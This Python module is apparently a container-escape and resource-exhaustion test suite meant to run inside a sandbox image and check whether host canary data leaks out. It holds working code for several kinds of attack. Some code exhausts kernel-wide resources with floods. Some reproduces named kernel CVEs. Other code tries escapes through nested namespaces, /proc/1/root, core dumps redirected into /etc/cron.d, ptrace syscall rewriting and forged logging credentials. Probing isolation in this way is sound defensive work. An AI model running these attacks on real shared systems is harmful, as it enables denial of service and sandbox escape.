"""Attempts to take from others what the machine has once, and to confuse who answers: floods, exhaustion, races on names and numbers.

Run inside by the image's own python3, never on the host.
"""

# mypy: ignore-errors

from __future__ import annotations

import contextlib
import ctypes
import errno
import fcntl
import glob
import mmap
import os
import random
import resource
import select
import signal
import socket
import stat
import struct
import threading
import time

from attempting import FACTS, LIBC, attempt, call, is_outside, opened, read

NEW_USER, NEW_NS, NEW_NET, NEW_PID, NEW_UTS = 0x10000000, 0x20000, 0x40000000, 0x20000000, 0x4000000
SECONDS = 2.0  # of each flood


def at_leisure(function):
    """An attempt of seconds, where there is time for them."""
    return attempt(function) if FACTS.get("has_time") else function


def until(seconds=SECONDS):
    """True, again and again, for a while."""
    end = time.monotonic() + seconds
    while time.monotonic() < end:
        yield True


def beside(*functions, seconds=SECONDS):
    """Each again and again in a thread of its own, errors and all."""
    end = time.monotonic() + seconds

    def repeat(function):
        while time.monotonic() < end:
            with contextlib.suppress(OSError, LookupError, ValueError):
                function()

    threads = [threading.Thread(target=repeat, args=(function,)) for function in functions]
    for thread in threads:
        thread.start()
    for thread in threads:
        thread.join()


def many(count, function):
    """So many children at once, each of which ends by itself or is killed."""
    children = []
    for number in range(count):
        with contextlib.suppress(OSError):
            child = os.fork()
            if child == 0:
                signal.alarm(3)
                with contextlib.suppress(BaseException):
                    function(number)
                os._exit(0)
            children.append(child)
    for child in children:
        os.waitpid(child, 0)


def all_that_may_be_open():
    most = resource.getrlimit(resource.RLIMIT_NOFILE)[1]
    resource.setrlimit(resource.RLIMIT_NOFILE, (most, most))


# ---- what the machine has once


@attempt
def watches_without_end():
    """inotify: instances of as many users as there are, and a watch on all that can be found."""
    for user in range(1, 40):
        child = os.fork()
        if child == 0:
            os.setresuid(user, user, user)
            line = LIBC.inotify_init1(0)
            for path in glob.glob("/usr/*/*")[:2000]:
                LIBC.inotify_add_watch(line, path.encode(), 0xFFF)
            os._exit(0)
        os.waitpid(child, 0)
    return


@attempt
def terminals_without_end():
    """Instances of devpts, each with as many terminals as it gives."""
    all_that_may_be_open()
    kept = []
    for number in range(6):
        os.makedirs(f"/tmp/pts{number}", exist_ok=True)
        call(165, b"x", f"/tmp/pts{number}".encode(), b"devpts", 0, b"newinstance,ptmxmode=0666")
        with contextlib.suppress(OSError):
            while len(kept) < 3000:
                kept.append(os.open(f"/tmp/pts{number}/ptmx", os.O_RDWR | os.O_NOCTTY))
    return len(kept) if len(kept) > 1024 else None


@attempt
def requests_of_the_whole_machine():
    """io_setup: /proc/sys/fs/aio-max-nr is everybody's."""
    kept = 0
    for _ in range(4096):
        if call(206, 4096, ctypes.byref(ctypes.c_ulong())) < 0:
            break
        kept += 4096
    return kept if kept > 1 << 15 else None


@at_leisure
def timers_without_end():
    """timer_create until it fails, each of a nanosecond; and the alarms of descriptors."""
    timer, spec = ctypes.create_string_buffer(8), struct.pack("4q", 0, 1, 0, 1)
    signal.signal(signal.SIGALRM, signal.SIG_IGN)
    for _ in range(20000):
        if call(222, 1, None, timer) < 0:
            break
        call(223, struct.unpack("i", timer.raw[:4])[0], 0, spec, None)
    for _ in range(200):
        place = call(283, 1, 0)
        call(286, place, 0, spec, None)
    return


@at_leisure
def timers_of_threads_that_end():
    """CVE-2025-38352: timers on the processor's time of threads that are about to end."""

    def end():
        timer = ctypes.create_string_buffer(8)
        if call(222, 3, None, timer) == 0:
            call(223, struct.unpack("i", timer.raw[:4])[0], 0, struct.pack("4q", 0, 1000, 0, 1000), None)

    signal.signal(signal.SIGALRM, signal.SIG_IGN)
    for _ in until():
        threads = [threading.Thread(target=end) for _ in range(8)]
        for thread in threads:
            thread.start()
        for thread in threads:
            thread.join()
    return


@at_leisure
def signals_that_wait():
    """Real-time signals to ourselves that nobody takes, up to the limit of the user."""
    signal.pthread_sigmask(signal.SIG_BLOCK, [signal.SIGRTMIN + 5])
    for _ in range(20_000):
        if call(129, os.getpid(), signal.SIGRTMIN + 5, struct.pack("iii", signal.SIGRTMIN + 5, 0, -1).ljust(128, b"\0")) < 0:
            break
    return


@at_leisure
def queues_and_segments_without_end():
    for key in range(1, 5000):
        if call(68, key, 0o1666) < 0 and call(64, key, 100, 0o1666) < 0 and call(29, key, 1 << 20, 0o1666) < 0:
            break
    for number in range(300):
        call(240, f"siege{number}".encode(), 0o102, 0o600, None)
    for name in os.listdir("/dev/mqueue"):
        os.unlink(f"/dev/mqueue/{name}")
    for index in range(5000):
        call(71, index, 0, None)
        call(66, index, 0, 0)
        call(31, index, 0, None)
    return


@at_leisure
def memory_in_pipes():
    all_that_may_be_open()

    def fill(number):
        kept = []
        for _ in range(200):
            receiver, sender = os.pipe()
            kept += [receiver, sender]
            with contextlib.suppress(OSError):
                fcntl.fcntl(sender, 1031, 1 << 20)
            os.set_blocking(sender, False)
            with contextlib.suppress(BlockingIOError):
                while True:
                    os.write(sender, bytes(65536))

    many(12, fill)
    return


@at_leisure
def memory_in_connections():
    """TCP to ourselves, never read: buffers that a group of version 1 does not count."""
    listener = socket.create_server(("127.0.0.1", 0), backlog=500)
    kept = []
    for _ in until(3):
        near = socket.create_connection(listener.getsockname())
        kept += [near, listener.accept()[0]]
        near.setblocking(False)
        with contextlib.suppress(BlockingIOError):
            while True:
                near.send(bytes(1 << 16))
    return


@at_leisure
def memory_in_tables_of_pages():
    """A page of each two megabytes."""

    def touch(number):
        room = mmap.mmap(-1, 1 << 38, mmap.MAP_PRIVATE | mmap.MAP_ANONYMOUS | 0x4000)
        for at in range(0, 1 << 38, 1 << 21):
            room[at] = 1

    many(3, touch)
    return


@at_leisure
def pages_that_are_read_by_all():
    """The whole image through the server's hands and the kernel's cache, by many at once, in strides that read nothing ahead."""
    names = [path for path in glob.glob("/usr/lib/x86_64-linux-gnu/*.so*") if os.path.isfile(path)]

    def walk(number):
        chance = random.Random(number)
        for _ in until():
            with open(chance.choice(names), "rb", buffering=0) as file:
                os.posix_fadvise(file.fileno(), 0, 0, os.POSIX_FADV_RANDOM)
                size = os.fstat(file.fileno()).st_size
                for _ in range(20):
                    os.pread(file.fileno(), 1, chance.randrange(max(1, size)))
                os.posix_fadvise(file.fileno(), 0, 0, os.POSIX_FADV_DONTNEED)

    many(16, walk)
    return


@attempt
def the_dead_that_nobody_takes():
    """Processes that ended and are not waited for, as many as there may be: a newcomer has his own."""
    children = []
    with contextlib.suppress(OSError):
        while len(children) < 2000:
            child = os.fork()
            if child == 0:
                os._exit(0)
            children.append(child)
    for child in children:
        os.waitpid(child, 0)
    return


@at_leisure
def files_without_end():
    """Names of every kind, as many as come in a few seconds, in directories of their own."""
    os.makedirs("/var/tmp/siege", exist_ok=True)
    kinds = (
        lambda path: os.close(os.open(path, os.O_CREAT)),
        os.mkdir,
        os.mkfifo,
        lambda path: os.symlink("x" * 4000, path),
        lambda path: os.link("/var/tmp/siege/0", path),
    )
    with contextlib.suppress(OSError):
        for number, _ in enumerate(until(3)):
            with contextlib.suppress(FileNotFoundError):
                kinds[number % len(kinds)](f"/var/tmp/siege/{number}")
    for entry in os.scandir("/var/tmp/siege"):
        os.rmdir(entry.path) if entry.is_dir(follow_symlinks=False) else os.unlink(entry.path)
    os.rmdir("/var/tmp/siege")
    return


@attempt
def spaces_one_in_another():
    """User namespaces to the depth that the kernel allows, and at the bottom what each had."""
    for depth in range(40):
        if call(272, NEW_USER | NEW_NS | NEW_UTS) < 0:
            break
        with contextlib.suppress(OSError):
            for name, line in (("setgroups", "deny"), ("uid_map", "0 0 1"), ("gid_map", "0 0 1")):
                with open(f"/proc/self/{name}", "w") as file:
                    file.write(line)
        call(165, b"proc", b"/mnt", b"proc", 0, None)
        if found := is_outside(read("/mnt/version") + read(FACTS["canary_path"]) + read("/mnt/1/environ")):
            return depth, found
    return None


@at_leisure
def spaces_of_the_whole_machine():
    """Namespaces that descriptors keep, as many as memory allows."""
    all_that_may_be_open()

    def keep(number):
        for _ in until():
            if call(272, NEW_UTS) < 0:
                break
            os.open("/proc/self/ns/uts", os.O_RDONLY)

    many(8, keep)
    return


@at_leisure
def neighbours_without_end():
    """The kernel's table of neighbours is one for all networks."""
    with socket.socket(16, 3, 0) as line:
        line.setblocking(False)
        for number in range(20000):
            body = struct.pack("BBHiHBB", 2, 0, 0, 1, 0x80, 0, 0) + struct.pack("HH4s", 8, 1, struct.pack(">I", 0x0A000001 + number))
            with contextlib.suppress(OSError):
                line.send(struct.pack("IHHII", 16 + len(body), 28, 0x0401, number, 0) + body)
    return


@at_leisure
def a_flood_of_questions_to_the_kernel():
    """Dumps of netlink of all families that nobody reads, and answers that overflow."""
    kept = []
    for _ in until():
        with contextlib.suppress(OSError):
            line = socket.socket(16, 3, 0)
            line.setblocking(False)
            line.setsockopt(socket.SOL_SOCKET, socket.SO_RCVBUF, 1)
            for kind in (18, 22, 26, 30, 34, 38, 66, 94):
                line.send(struct.pack("IHHIIB3x", 20, kind, 0x301, 1, 0, 0))
            kept = [*kept[-200:], line]
    return


@at_leisure
def paths_of_the_network_changed_while_they_are_read():
    def change():
        with socket.socket(16, 3, 0) as line:
            body = struct.pack("8BI", 2, 32, 0, 0, 254, 4, 0, 1, 0) + struct.pack("HH4s", 8, 1, os.urandom(4))
            line.send(struct.pack("IHHII", 16 + len(body), random.choice((24, 25)), 0x0505, 1, 0) + body)

    beside(change, change, lambda: read("/proc/net/route", 1 << 20), lambda: read("/proc/net/fib_trie", 1 << 20))
    os.system("ip route flush scope nowhere 2>/dev/null; ip route flush type blackhole 2>/dev/null")
    return


# ---- descriptors on their way


@at_leisure
def descriptors_in_circles():
    """Sockets sent through themselves, closed, and collected (CVE-2021-0920, CVE-2025-38236: with a byte out of band)."""
    for _ in until():
        one, other = socket.socketpair(socket.AF_UNIX, socket.SOCK_STREAM)
        with one, other:
            for _ in range(20):
                with contextlib.suppress(OSError):
                    socket.send_fds(one, [b"x"], [one.fileno(), other.fileno()])
                    one.send(b"!", socket.MSG_OOB)
                    other.recv(1, socket.MSG_OOB | socket.MSG_DONTWAIT)
                    other.recv(1, socket.MSG_PEEK | socket.MSG_DONTWAIT)
    return


@attempt
def descriptors_to_every_socket():
    """Directories, devices and sockets to whoever listens at a path, with every kind of control message; what comes back is looked at."""
    places = [os.open("/", os.O_RDONLY), os.open("/proc/self/ns/mnt", os.O_RDONLY), os.open("/dev/null", os.O_RDWR)]
    paths = [path for path in glob.glob("/run/**", recursive=True) if stat.S_ISSOCK(os.lstat(path).st_mode)]
    for path in (*paths, "/dev/log"):
        for kind in (socket.SOCK_STREAM, socket.SOCK_DGRAM, socket.SOCK_SEQPACKET):
            with contextlib.suppress(OSError), socket.socket(socket.AF_UNIX, kind) as line:
                line.settimeout(0.2)
                line.connect(path)
                for control in (1, 2, 3, 4, 99):
                    with contextlib.suppress(OSError):
                        line.sendmsg([os.urandom(64)], [(socket.SOL_SOCKET, control, struct.pack("3i", *places))])
                _, received, _, _ = socket.recv_fds(line, 65536, 16)
                for number in received:
                    if is_outside(read(f"/proc/self/fd/{number}") + os.readlink(f"/proc/self/fd/{number}").encode()):
                        return path
    return None


@attempt
def who_we_are_is_told_by_others():
    """SCM_CREDENTIALS of processes and users that are not ours, to who writes down what he is told."""
    for path in ("/dev/log", "/run/systemd/journal/socket", "/run/systemd/journal/stdout"):
        for pid, uid in ((1, 0), (FACTS["pid"], 0), (os.getpid(), -2), (0, 0), (-1, -1)):
            for kind in (socket.SOCK_DGRAM, socket.SOCK_STREAM):
                with contextlib.suppress(OSError), socket.socket(socket.AF_UNIX, kind) as line:
                    line.connect(path)
                    line.sendmsg([b"<13>siege: x\n"], [(socket.SOL_SOCKET, 2, struct.pack("3i", pid, uid, uid))])
    return


@at_leisure
def the_deepest_of_sockets():
    """A descriptor in a socket in a socket, as deep as the kernel lets it."""
    kept = socket.socketpair(socket.AF_UNIX)
    for _ in range(2000):
        following = socket.socketpair(socket.AF_UNIX)
        try:
            socket.send_fds(following[0], [b"x"], [kept[0].fileno(), kept[1].fileno()])
        except OSError:
            break
        for end in kept:
            end.close()
        kept = following
    return


@at_leisure
def sets_of_waiting_in_circles():
    """epoll in epoll, in each order, while what is watched is closed."""
    queues = [select.epoll() for _ in range(60)]
    for one in queues:
        for other in queues:
            with contextlib.suppress(OSError):
                one.register(other.fileno(), select.EPOLLIN | select.EPOLLET)
    place = os.open("/proc/self/mounts", os.O_RDONLY)
    for one in queues:
        with contextlib.suppress(OSError):
            one.register(place)
    os.close(place)
    queues[0].poll(0.1)
    return


# ---- paths, and who judges them


@attempt
def every_path_descriptor_opened_again():
    """O_PATH of what may not be opened, then by /proc/self/fd, linkat, execveat, fchmodat and fexecve."""
    for path in (
        "/proc/1/root",
        "/proc/1/cwd",
        "/proc/1/exe",
        "/proc/1/ns/mnt",
        "/proc/1/fd",
        "/dev/null",
        "/proc/self/exe",
        "/run",
        "/proc",
    ):
        place = opened(path, os.O_PATH)
        if place < 0:
            continue
        name = f"/proc/self/fd/{place}"
        for deeper in (
            "",
            "/",
            "/..",
            "/../..",
            "/../../.." + FACTS["canary_path"],
            FACTS["canary_path"],
            "/root" + FACTS["canary_path"],
        ):
            if found := is_outside(read(name + deeper)):
                return path, deeper, found
        call(265, place, b"", -100, b"/tmp/linked-again", 0x1000)
        child = os.fork()
        if child == 0:
            signal.alarm(2)
            call(322, place, b"", (ctypes.c_char_p * 2)(b"x", None), (ctypes.c_char_p * 1)(None), 0x1000)
            os._exit(0)
        os.waitpid(child, 0)
        call(452, place, b"", 0o4777, 0x1000)
        call(437, place, FACTS["canary_path"].encode(), struct.pack("QQQ", 0, 0, 0), 24)
    return None


@at_leisure
def a_program_exchanged_while_it_is_judged():
    """RENAME_EXCHANGE of a program that was brought with one of the image, below an execve by path, by descriptor and by a link."""
    for name, source in (("brought", b"\x7fELF" + os.urandom(4000)), ("image", read("/bin/true", 1 << 20))):
        with open(f"/tmp/{name}", "wb") as file:
            file.write(source)
        os.chmod(f"/tmp/{name}", 0o755)
    os.symlink("/tmp/image", "/tmp/link-to-it") if not os.path.islink("/tmp/link-to-it") else None

    def run(path):
        child = os.fork()
        if child == 0:
            with contextlib.suppress(OSError):
                os.execv(path, [path])
            os._exit(1)
        os.waitpid(child, 0)

    beside(
        lambda: call(316, -100, b"/tmp/brought", -100, b"/tmp/image", 2),
        lambda: (os.symlink("/tmp/brought", "/tmp/over"), os.rename("/tmp/over", "/tmp/link-to-it")),
        lambda: run("/tmp/image"),
        lambda: run("/tmp/link-to-it"),
    )
    return


@at_leisure
def a_number_that_is_another_s_by_now():
    """Who asks dies while he is answered, and his number is given to another at once: clone3 with set_tid."""
    wanted = 30000 + os.getpid() % 1000
    number = ctypes.c_int(wanted)
    for _ in until():
        arguments = struct.pack("11Q", 0, 0, 0, 0, signal.SIGCHLD, 0, 0, 0, ctypes.addressof(number), 1, 0)
        child = LIBC.syscall(435, arguments, len(arguments))
        if child == 0:
            room = ctypes.create_string_buffer(512)
            while True:
                call(63, room)
                call(165, b"x", b"/nowhere", b"tmpfs", 0, None)
                call(137, b"/", room)
        if child < 0:
            break
        time.sleep(random.random() / 500)
        os.kill(child, 9)
        os.waitpid(child, 0)
    return


@attempt
def a_call_made_another_by_a_tracer():
    """PTRACE_SYSCALL: getpid becomes mount, bpf, init_module, reboot and open_tree on the way in."""
    for number in (165, 321, 175, 169, 428, 246, 304):
        child = os.fork()
        if child == 0:
            call(101, 0, 0, 0, 0)
            os.kill(os.getpid(), signal.SIGSTOP)
            result = call(39, 0, 0, 0, 0)
            os._exit(7 if result in (0, 3) else 0)
        os.waitpid(child, 0)
        registers = ctypes.create_string_buffer(27 * 8)
        for _ in range(40):
            if LIBC.ptrace(24, child, None, None) < 0:
                break
            _, status = os.waitpid(child, 0)
            if not os.WIFSTOPPED(status):
                break
            LIBC.ptrace(12, child, None, registers)
            if struct.unpack_from("q", registers, 15 * 8)[0] == 39:
                struct.pack_into("q", registers, 15 * 8, number)
                LIBC.ptrace(13, child, None, registers)
        with contextlib.suppress(OSError):
            os.kill(child, 9)
            os.waitpid(child, 0)
    return is_outside(read("/mnt/version"))


@at_leisure
def a_core_that_is_led_elsewhere():
    """A dump whose name is a link, a pipe, or another's file."""
    os.makedirs("/tmp/cores", exist_ok=True)
    for target in ("/etc/cron.d/siege", FACTS["canary_path"], "/proc/sys/kernel/core_pattern", "/dev/kmsg"):
        with contextlib.suppress(OSError):
            os.unlink("/tmp/cores/core")
        os.symlink(target, "/tmp/cores/core")
        child = os.fork()
        if child == 0:
            os.chdir("/tmp/cores")
            resource.setrlimit(resource.RLIMIT_CORE, (1 << 24, 1 << 24))
            os.abort()
        os.waitpid(child, 0)
    return "written" if os.path.exists("/etc/cron.d/siege") and b"ELF" in read("/etc/cron.d/siege") else None


@attempt
def a_service_that_reads_a_link_of_ours():
    """What the machine's own services serve and read is a link to the host's, or to a directory above all."""
    os.makedirs("/var/www/html", exist_ok=True)
    for name, target in (
        ("c.txt", FACTS["canary_path"]),
        ("up", "/" + "../" * 30),
        ("root", "/proc/1/root"),
        ("self", "/proc/self/root"),
        ("v.txt", "/proc/version"),
    ):
        with contextlib.suppress(OSError):
            os.symlink(target, f"/var/www/html/siege-{name}")
    reached = None
    for path in (
        "siege-c.txt",
        f"siege-up{FACTS['canary_path']}",
        f"siege-root{FACTS['canary_path']}",
        "siege-v.txt",
        "siege-self/proc/version",
    ):
        with contextlib.suppress(OSError), socket.create_connection(("127.0.0.1", 80), 2) as line:
            line.settimeout(2)
            line.send(f"GET /{path} HTTP/1.0\r\nHost: localhost\r\n\r\n".encode())
            reached = reached or is_outside(b"".join(iter(lambda line=line: line.recv(65536), b"")))
    for path in glob.glob("/var/www/html/siege-*"):
        os.unlink(path)
    return reached


# ---- the server of the files


@at_leisure
def places_in_a_directory_that_nobody_gave():
    """getdents64 and lseek with cookies, whences and rooms at random, while names come and go."""
    os.makedirs("/var/tmp/cookies", exist_ok=True)
    chance = random.Random(5)
    place, room = os.open("/var/tmp/cookies", os.O_RDONLY), ctypes.create_string_buffer(4096)

    def look():
        call(8, place, chance.choice((0, 1, 2, 3, -1, 1 << 62, -(1 << 63), chance.randrange(1 << 63))), chance.randrange(6))
        call(217, place, room, chance.choice((0, 1, 24, 25, 280, 4096)))

    def change():
        name = f"/var/tmp/cookies/{chance.randrange(50)}"
        os.unlink(name) if os.path.exists(name) else os.close(os.open(name, os.O_CREAT))

    beside(look, look, change, change)
    for name in os.listdir("/var/tmp/cookies"):
        os.unlink(f"/var/tmp/cookies/{name}")
    os.rmdir("/var/tmp/cookies")
    return


@at_leisure
def holes_punched_while_they_are_written():
    """fallocate in every mode, copy_file_range onto itself, truncation and mapped writes of one file at once."""
    place = os.open("/var/tmp/punched", os.O_RDWR | os.O_CREAT | os.O_TRUNC)
    os.ftruncate(place, 1 << 20)
    room, chance = mmap.mmap(place, 1 << 20), random.Random(6)

    def at():
        return chance.randrange(1 << 20)

    beside(
        lambda: call(285, place, chance.randrange(128), at(), at() + 1),
        lambda: call(326, place, struct.pack("q", at()), place, struct.pack("q", at()), at(), 0),
        lambda: os.pwrite(place, bytes(chance.randrange(1, 9000)), at()),
        lambda: call(328, place, ctypes.create_string_buffer(16), 1, at(), 0, chance.randrange(256)),
        lambda: os.lseek(place, at(), chance.choice((os.SEEK_DATA, os.SEEK_HOLE))),
        lambda: (os.ftruncate(place, 1 << 20), os.fsync(place)),
    )
    room.close()
    os.unlink("/var/tmp/punched")
    return


@at_leisure
def commands_to_files_at_random():
    """ioctl(2) on files, directories and links' descriptors of the server's: every size and direction."""
    os.close(os.open("/var/tmp/told", os.O_CREAT))
    places = [
        opened(path) for path in ("/var/tmp/told", "/var/tmp", "/etc/passwd", "/proc/version", "/sys", "/proc/self/maps", "/dev")
    ]
    chance = random.Random(9)
    room = ctypes.create_string_buffer(1 << 16)
    for _ in until():
        call(
            16,
            chance.choice(places),
            chance.choice((0xE5, 0x66, 0x94, 0x58, 0x12, 0)) << 8 | chance.randrange(1 << 32) & 0xFFFF00FF,
            room,
        )
        if found := is_outside(room.raw):
            return found
    os.unlink("/var/tmp/told")
    return None


@at_leisure
def trees_moved_into_each_other():
    """Directories renamed into their own children by many, the cwd taken away below them, and `..` asked for."""
    for name in "abcd":
        os.makedirs(f"/var/tmp/tree/{name}/{name}", exist_ok=True)
    chance = random.Random(8)

    def move():
        one, other = chance.sample("abcd", 2)
        found = glob.glob(f"/var/tmp/tree/**/{one}", recursive=True)
        os.rename(chance.choice(found), f"{chance.choice(glob.glob(f'/var/tmp/tree/**/{other}', recursive=True))}/{one}")

    def climb():
        place = os.open(chance.choice(glob.glob("/var/tmp/tree/**", recursive=True)), os.O_RDONLY)
        for _ in range(12):
            above = os.open("..", os.O_RDONLY, dir_fd=place)
            os.close(place)
            place = above
        if not os.path.sameopenfile(place, root):
            elsewhere.append(os.readlink(f"/proc/self/fd/{place}"))
        os.close(place)

    elsewhere, root = [], os.open("/", os.O_RDONLY)
    beside(move, move, climb, climb)
    os.system("rm -rf /var/tmp/tree")
    return elsewhere or None


@at_leisure
def locks_that_wait_for_each_other():
    """POSIX, BSD and open file locks of many in circles, whose owners are killed."""
    with open("/var/tmp/circle-of-locks", "w+b") as file:
        file.truncate(100)

    def wait(number):
        place = os.open("/var/tmp/circle-of-locks", os.O_RDWR)
        for turn in until(1.5):
            with contextlib.suppress(OSError):
                fcntl.lockf(place, fcntl.LOCK_EX, 1, number % 10)
                signal.setitimer(signal.ITIMER_REAL, 0.05 + number / 100)
                fcntl.lockf(place, fcntl.LOCK_EX, 1, (number + turn) % 10)
                fcntl.flock(place, fcntl.LOCK_EX)

    many(20, wait)
    os.unlink("/var/tmp/circle-of-locks")
    return


@at_leisure
def memory_that_moves_while_it_faults():
    """A mapped file of the server's: mremap, madvise and munmap below those who read it, and a write from it into itself."""
    place = os.open("/var/tmp/moved", os.O_RDWR | os.O_CREAT | os.O_TRUNC)
    os.write(place, bytes(1 << 20))
    child = os.fork()
    if child == 0:
        signal.alarm(3)
        LIBC.mmap.restype = LIBC.mremap.restype = ctypes.c_void_p
        here = [LIBC.mmap(None, ctypes.c_size_t(1 << 20), 3, 1, place, ctypes.c_long(0))]

        def move():
            here[0] = LIBC.mremap(ctypes.c_void_p(here[0]), ctypes.c_size_t(1 << 20), ctypes.c_size_t(1 << 20), 1) or here[0]

        beside(
            move,
            lambda: LIBC.madvise(ctypes.c_void_p(here[0]), ctypes.c_size_t(1 << 20), random.choice((4, 9, 16, 21, 22))),
            lambda: call(18, place, here[0], 1 << 19, random.randrange(1 << 20)),
            lambda: call(17, place, here[0], 1 << 19, random.randrange(1 << 20)),
            lambda: os.ftruncate(place, random.randrange(1, 1 << 20)),
        )
        os._exit(0)
    os.waitpid(child, 0)
    os.unlink("/var/tmp/moved")
    return


@at_leisure
def groups_that_are_watched():
    """cgroup.events polled while groups come and go, and triggers of pressure."""
    base = "/sys/fs/cgroup/siege"
    poll = select.poll()
    for path in ("/sys/fs/cgroup/cgroup.events", "/proc/pressure/memory", "/proc/pressure/cpu", "/sys/fs/cgroup/memory.pressure"):
        place = opened(path, os.O_RDWR | os.O_NONBLOCK)
        if place >= 0:
            with contextlib.suppress(OSError):
                os.write(place, b"some 150000 1000000")
            poll.register(place, select.POLLPRI)
    for _ in until(1):
        with contextlib.suppress(OSError):
            os.mkdir(base)
            poll.poll(1)
            os.rmdir(base)
    return


@attempt
def openings_that_nobody_permits():
    """fanotify's permission events, of a whole mount and of the file system: everybody's open would wait for us."""
    line = call(300, 0x4 | 0x8, os.O_RDONLY)
    if line < 0:
        return None
    taken = [
        call(301, line, 1 | flags, 0x10000 | 0x20000, -100, path) for flags in (0x10, 0x100, 0) for path in (b"/", b"/etc", b"/usr")
    ]
    child = os.fork()
    if child == 0:
        read("/etc/passwd")
        os._exit(7)
    time.sleep(0.5)
    done, _ = os.waitpid(child, os.WNOHANG)
    os.close(line)
    return taken if not done else None


@at_leisure
def an_interface_that_is_told_by_its_ioctls():
    """SIOCSIF..., SIOCBR..., bonding, tunnels and wireless on ours, at random; what stays of it is taken back."""
    with socket.socket(socket.AF_INET, socket.SOCK_DGRAM) as line:
        names = [name for _, name in socket.if_nameindex()]
        chance = random.Random(12)
        for _ in range(3000):
            command = chance.choice((0x89A0, 0x89F0, 0x8B00, 0x8990, 0x8940)) + chance.randrange(16)
            with contextlib.suppress(OSError):
                answer = fcntl.ioctl(line, command, struct.pack("16s24s", chance.choice(names).encode(), os.urandom(24)))
                if is_outside(answer) or any(mac.replace(":", "") in answer.hex() for mac in FACTS["macs"]):
                    return hex(command)
    return None


@attempt
def what_is_not_there_is_said_so():
    """Each refusal is an errno of the kernel's, and none of ours: nothing answers with what no call can."""
    room = ctypes.create_string_buffer(64)
    for number in range(452):
        if number in (15, 34, 56, 57, 58, 59, 60, 61, 62, 112, 130, 200, 231, 234, 247, 322, 435):
            continue
        child = os.fork()
        if child == 0:
            signal.alarm(1)
            result = call(number, -1, room, -1, room, -1, -1)
            os._exit(7 if -result not in errno.errorcode and result < 0 else 0)
        if os.waitstatus_to_exitcode(os.waitpid(child, 0)[1]) == 7:
            return number
    return None
